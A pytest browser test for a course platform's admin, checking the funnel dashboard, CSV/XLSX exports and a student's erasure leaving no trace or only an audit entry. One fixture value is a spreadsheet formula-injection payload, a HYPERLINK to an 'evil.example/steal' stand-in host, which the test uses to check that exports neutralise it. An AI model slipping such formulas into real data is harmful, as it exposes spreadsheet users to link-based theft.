"""Is it working? The creator logs in, opens the program's dashboard from the admin home, reads the
funnel, clicks the unhappy count and sees exactly those students, downloads that list (CSV and XLSX:
the same rows, a name that looks like a formula neutralised), erases one of them with a reason, and
then finds no trace of her name or address in any admin list, any list's export, any outbox email as
it would be rendered, or any public page; the audit entry (who, when, why) is in the admin.

The erased student is as entangled as a student gets: a friend of a graduate (whose page then says
"a friend"), unhappy feedback in her own words, the support case it opened, an approved testimonial on
the wall, a graduation, and a friend of her own who registered through her special link."""

import csv
import io
import re
import time
from datetime import UTC, date, datetime, timedelta
from datetime import time as dt_time
from pathlib import Path

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from campaigns import links
from campaigns import services as engine_services
from campaigns.models import Student
from cms.models import StudentErasure
from mailers import rendering
from mailers import services as mail
from mailers.models import Message
from referrals.services import link_for
from testimonials import feedback, publishing, submissions
from testimonials.models import Consent, FeedbackResponse, ModerationStatus, SupportCase, Testimonial
from tests.browser.test_feedback import admin_login
from tests.cms.test_student_data import traces
from tests.factories import StudentFactory, program_page, testimonial_wall
from tests.referrals.graduates import confirm, make_link, register

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

REFERRER = "maria.lopez@example.org"  # the graduate who referred her (graduates.py names her Maria Lopez)
ERASED = "zephyrine.q@example.org"
FIRST, LAST = "Zephyrine", "Quillfeather"
HER_FRIEND = "odalys.b@example.org"
COMPLAINT = "Zephyrine here: nothing changed for us, and nobody answered my emails."
HER_QUOTE = "Quillfeather family verdict: the mornings are calmer, even if the support was slow."
FORMULA_NAME = '=HYPERLINK("https://evil.example/steal","Open")'  # a spreadsheet runs it
FUNNEL = {"enrolled": "4", "feedback": "3", "happy": "1", "unhappy": "2"}
# Every list a creator can open in the admin (the feedback itself shows in its support case and the
# student's page: there is no separate feedback list). Those marked True offer Wagtail's export.
ADMIN_LISTS = {
    "students": True,
    "enrollments": True,
    "journey": True,
    "testimonials": True,
    "support-cases": True,
    "mail/messages": True,
    "mail/contacts": True,
    "referral-links": True,
    "link-clicks": False,
    "friends": True,
    "conversions": True,
    "rewards": True,
    "webhook-deliveries": True,
    "integrations/events": True,
    "integrations/purchases": True,
    "reports/site-history": True,  # Wagtail's log of admin actions, which labels entries with names
    "sharing-prompts": False,
}


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture(params=["the real clock", "23:30 UTC"])
def clock(request, monkeypatch):
    """The whole story at the hour it runs, and again late in the evening (UTC and the students' time
    zone on different dates): a clock that starts at 23:30 UTC today and keeps ticking, for the test and
    the live server alike."""
    if request.param == "23:30 UTC":
        start, origin = datetime.combine(date.today(), dt_time(23, 30), UTC), time.monotonic()
        monkeypatch.setattr(timezone, "now", lambda: start + timedelta(seconds=time.monotonic() - origin))
        return start
    return None


def unhappy(enrollment, *, answer: str, score: int = 2):
    """The student answers the feedback request with a low score and their own words."""
    response = FeedbackResponse.objects.create(
        enrollment=enrollment, student=enrollment.student, program=enrollment.program, cohort=enrollment.cohort
    )
    return feedback.feedback_submit(response=response, score=score, answers=[answer])


def world(program):
    """Maria (a graduate, happy) referred Zephyrine, who joined, was unhappy, graduated, wrote a
    testimonial that was approved, and referred Odalys; one more unhappy student has a formula for a
    name; Odalys gave no feedback."""
    referrer_link = make_link(program, email=REFERRER, consent=Consent.FULL)
    # Both friends let the graduate who invited them see their first name (share_name), so it is shown before.
    register(Client(), referrer_link, first_name=FIRST, last_name=LAST, email=ERASED, share_name="on")
    confirm(Client(), email=ERASED)
    erased = Student.objects.get(email=ERASED)
    enrollment = erased.enrollments.get(program=program)
    unhappy(enrollment, answer=COMPLAINT)
    assert SupportCase.objects.filter(student=erased).exists()
    engine_services.enrollment_graduate(enrollment=enrollment, actor="test", reason="finished the program")
    item = submissions.testimonial_save(
        student_id=erased.pk, program_id=program.pk, text=HER_QUOTE, consent=Consent.FULL
    )
    publishing.testimonial_moderate(testimonial=item, status=ModerationStatus.APPROVED, user=None)
    her_link = link_for(student_id=erased.pk, program_id=program.pk)
    register(Client(), her_link, first_name="Odalys", last_name="Brightwater", email=HER_FRIEND, share_name="on")
    confirm(Client(), email=HER_FRIEND)
    # The services refuse such a name today; a record from before that rule (or a platform's) can have one.
    formula = engine_services.enrollment_create(
        student=StudentFactory(email="formula@example.org", first_name=FORMULA_NAME), program=program, actor="test"
    )
    unhappy(formula, answer="Too long for me.", score=1)
    mail.messages_send_due(now=timezone.now() + timedelta(minutes=1))
    return {
        "referrer": referrer_link.student,
        "erased": Student.objects.get(pk=erased.pk),
        "her_link": her_link,
        "unhappy": {ERASED, "formula@example.org"},
    }


def download(page, text):
    """Open the header's actions menu, click its download item; the downloaded file's bytes."""
    item = page.get_by_role("link", name=text)
    page.keyboard.press("Escape")  # a menu left open by the previous download
    item.wait_for(state="hidden")
    page.click("header button[aria-label='Actions']")
    item.wait_for(state="visible")
    with page.expect_download() as info:
        item.click()
    return Path(info.value.path()).read_bytes()


def csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def xlsx_rows(data: bytes) -> list[dict]:
    sheet = load_workbook(io.BytesIO(data), read_only=True).active
    header, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    return [dict(zip(header, row, strict=False)) for row in rows]


def no_trace(text: str, where: str) -> None:
    for needle in (ERASED, FIRST, LAST):
        assert needle.lower() not in text.lower(), f"{needle!r} still in {where}"


def test_from_the_dashboard_to_an_erasure_that_leaves_no_trace(clock, desktop, phone, live_server, admin_user):
    program = program_page(slug="calm", title="Calm Mornings", milestones=[("first-win", 7)])
    testimonial_wall(slug="stories")
    data = world(program)
    base = live_server.url
    referrer_hub = f"{base}{links.hub_path(data['referrer'].pk)}"
    her_hub = f"{base}{links.hub_path(data['erased'].pk)}"
    # The checks can see her before the erasure (otherwise they would pass on any page).
    phone.goto(f"{base}/stories/")
    assert f"{FIRST} {LAST}" in phone.inner_text("main")
    phone.goto(referrer_hub)
    assert FIRST in phone.inner_text("main")

    # The dashboard: admin home → the program's panel → the funnel → the unhappy students.
    admin_login(desktop, base)
    desktop.click(f"a:has-text('{program.title}')")
    desktop.wait_for_selector("#funnel")
    funnel = {step: desktop.inner_text(f"[data-step={step}] td >> nth=0").strip() for step in FUNNEL}
    assert funnel == FUNNEL, funnel  # Maria, Zephyrine, Odalys and the formula; three scored, two low
    desktop.click("[data-step=unhappy] a")
    desktop.wait_for_url("**/admin/students/**")
    listed = set(re.findall(r"[\w.=+-]+@example\.org", desktop.inner_text("table.listing tbody")))
    assert listed == data["unhappy"], listed

    # Its export: the same rows; a name that is a formula arrives as text.
    for fmt, read in (("CSV", csv_rows), ("XLSX", xlsx_rows)):
        rows_out = read(download(desktop, f"Download {fmt}"))
        assert {row["Email"] for row in rows_out} == data["unhappy"], fmt
        names = {row["Email"]: row["First name"] for row in rows_out}
        assert names["formula@example.org"] == "'" + FORMULA_NAME, fmt
        assert names[ERASED] == FIRST

    # Before: searching the students finds her (so the search after the erasure can fail).
    for words in (FIRST, LAST, ERASED):
        desktop.goto(f"{base}/admin/students/?q={words}")
        assert desktop.locator("table.listing tbody tr").count() == 1, words

    # The erasure, from her page in the admin, with a reason.
    desktop.goto(f"{base}/admin/students/inspect/{data['erased'].pk}/")
    desktop.click("text=Erase…")
    desktop.fill("textarea[name=reason]", "She asked by email on 2 December")
    desktop.click("button:has-text('Erase this student')")
    desktop.wait_for_selector(".messages .success")
    assert "is erased" in desktop.inner_text(".messages")

    # The audit entry (who, when, why) on her page, where the erasure led, and on the erase page.
    erasure = StudentErasure.objects.get(student=data["erased"])
    when = timezone.localtime(erasure.erased_at, UTC).strftime("%Y-%m-%d %H:%M")
    assert clock is None or when.startswith(clock.strftime("%Y-%m-%d 23:"))  # the live server kept the clock
    audits = [desktop.inner_text("[data-audit=erasure]")]
    desktop.goto(f"{base}/admin/students/data/{data['erased'].pk}/erase/")
    audits.append(desktop.inner_text("main"))
    for audit in audits:
        assert "admin:alice" in audit and f"{when} UTC" in audit, audit
        assert "She asked by email on 2 December" in audit, audit

    # No admin list, no export of one, no record page of hers shows her.
    for path, exports in ADMIN_LISTS.items():
        response = desktop.goto(f"{base}/admin/{path}/")
        assert response.status == 200, path
        no_trace(desktop.content(), path)
        if exports:
            response = desktop.request.get(f"{base}/admin/{path}/?export=csv")
            assert response.status == 200, path
            no_trace(response.text(), f"{path} CSV")
    record_pages = [f"students/inspect/{pk}/" for pk in Student.objects.values_list("pk", flat=True)]
    record_pages += [f"testimonials/inspect/{pk}/" for pk in Testimonial.objects.values_list("pk", flat=True)]
    record_pages += [f"support-cases/edit/{pk}/" for pk in SupportCase.objects.values_list("pk", flat=True)]
    record_pages += [f"mail/messages/inspect/{pk}/" for pk in Message.objects.values_list("pk", flat=True)]
    # The dashboard names people too (its top advocates: she referred Odalys), and so may the admin home.
    record_pages += [f"dashboard/{program.pk}/", ""]
    for path in record_pages:
        response = desktop.goto(f"{base}/admin/{path}")
        assert response.status == 200, path
        no_trace(desktop.content(), path or "the admin home")
    # Searching the students for her finds no one (the page repeats the search words, nothing else).
    for words in (FIRST, LAST, ERASED):
        desktop.goto(f"{base}/admin/students/?q={words}")
        desktop.wait_for_selector("#listing-results")
        assert desktop.locator("table.listing tbody tr").count() == 0, words
    # The outbox. Her own emails keep no merge values (nothing of hers to render, and nothing left to
    # send: what was pending is cancelled); everyone else's, as they would be rendered now.
    placeholder = Student.objects.get(pk=data["erased"].pk).email
    assert placeholder != ERASED
    for message in Message.objects.all():
        if message.to_email == placeholder:
            assert message.context == {} and message.to_name == "", message.kind
            no_trace(f"{message.subject} {message.last_error} {message.deferred_reason}", message.kind)
            continue
        rendered = rendering.render(
            kind_name=message.kind, to_email=message.to_email, to_name=message.to_name, context=message.context
        )
        no_trace(" ".join([message.subject, rendered.subject, rendered.text, rendered.html]), message.kind)

    # Public pages: the wall, and the hub of the graduate who referred her says "a friend".
    phone.goto(f"{base}/stories/")
    no_trace(phone.content(), "the testimonial wall")
    phone.goto(referrer_hub)
    no_trace(phone.content(), "the referrer's hub")
    assert "a friend" in phone.inner_text("main")
    assert phone.goto(her_hub).status == 403
    friend = Student.objects.get(email=HER_FRIEND)  # the friend she invited: her page names no inviter now
    phone.goto(f"{base}{links.hub_path(friend.pk)}")
    no_trace(phone.content(), "her friend's hub")
    phone.goto(f"{base}/join/{data['her_link'].code}/")
    no_trace(phone.content(), "her old special link")
    # And nowhere in the database either.
    assert traces([ERASED, FIRST, LAST]) == []
